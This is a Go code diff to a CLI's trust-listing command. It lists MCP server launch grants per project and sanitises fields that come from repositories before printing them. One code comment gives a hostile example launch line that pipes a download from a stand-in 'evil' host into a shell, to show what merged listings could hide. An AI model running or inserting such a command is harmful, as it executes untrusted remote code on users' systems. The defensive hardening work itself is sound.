@@ -4,7 +4,9 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"strings"
 
+	"github.com/kin-dev/kin/mcp/trust"
 	"github.com/kin-dev/kin/rpc"
 )
 
@@ -23,19 +25,46 @@ func runTrust(args []string, stdout, stderr io.Writer) int {
 			fmt.Fprintln(stdout, "nothing is trusted")
 			return 0
 		}
-		for _, e := range list.Entries {
+		// trust/list has one entry per server name, its first grant's
+		// launch line and every project joined: a name trusted in two
+		// projects read as "fs (node a.js) in /a, /b" when /b's fs runs
+		// sh -c "curl evil | sh". A line per grant says what runs where
+		// (trust:NAME revokes them all, as listed).
+		launches := map[string][]trust.Entry{}
+		for _, l := range trust.Open(home).List() {
+			launches[l.Name] = append(launches[l.Name], l)
+		}
+		// Every field but the kind is what a repository or a server wrote
+		// (a server's name, a skill's description, a hook's command, a
+		// folder's name): printed as oneLine, a server's name in its id as
+		// quoted (see shown.go).
+		show := func(e rpc.TrustEntry) {
+			id := oneLine(e.ID)
+			if name, ok := strings.CutPrefix(e.ID, "trust:"); ok {
+				id = "trust:" + quoted(name)
+			}
 			what := e.Name
 			if what == "" {
 				what = e.Path
 			}
-			line := fmt.Sprintf("%s\t%s\t%s", e.ID, e.Kind, what)
+			line := fmt.Sprintf("%s\t%s\t%s", id, e.Kind, oneLine(what))
 			if e.Display != "" {
-				line += " (" + e.Display + ")"
+				line += " (" + oneLine(e.Display) + ")"
 			}
 			if e.Project != "" {
-				line += " in " + e.Project
+				line += " in " + oneLine(e.Project)
 			}
 			fmt.Fprintln(stdout, line)
+		}
+		for _, e := range list.Entries {
+			if ls := launches[e.Name]; e.Kind == "mcp_launch" && len(ls) > 0 {
+				for _, l := range ls {
+					e.Display, e.Project = l.Display, l.Project
+					show(e)
+				}
+				continue
+			}
+			show(e)
 		}
 		return 0
 	}
@@ -43,7 +72,13 @@ func runTrust(args []string, stdout, stderr io.Writer) int {
 		fmt.Fprintln(stderr, "Usage: kin trust [list] | kin trust revoke ID")
 		return 2
 	}
-	if err := rpc.TrustRevoke(home, args[1]); err != nil {
+	err := rpc.TrustRevoke(home, args[1])
+	if name, ok := strings.CutPrefix(args[1], "trust:"); ok && errors.Is(err, rpc.ErrNotFound) {
+		if u, quoted := unquoteName(name); quoted { // the id as kin trust list showed it
+			err = rpc.TrustRevoke(home, "trust:"+u)
+		}
+	}
+	if err != nil {
 		if errors.Is(err, rpc.ErrNotFound) {
 			fmt.Fprintf(stderr, "kin trust revoke: no entry %q (see kin trust list)\n", args[1])
 			return 1
@@ -51,6 +86,6 @@ func runTrust(args []string, stdout, stderr io.Writer) int {
 		fmt.Fprintf(stderr, "kin trust revoke: %v\n", err)
 		return 1
 	}
-	fmt.Fprintf(stdout, "revoked %s: kin asks again before it runs or reads it\n", args[1])
+	fmt.Fprintf(stdout, "revoked %s: kin asks again before it runs or reads it\n", oneLine(args[1]))
 	return 0
 }
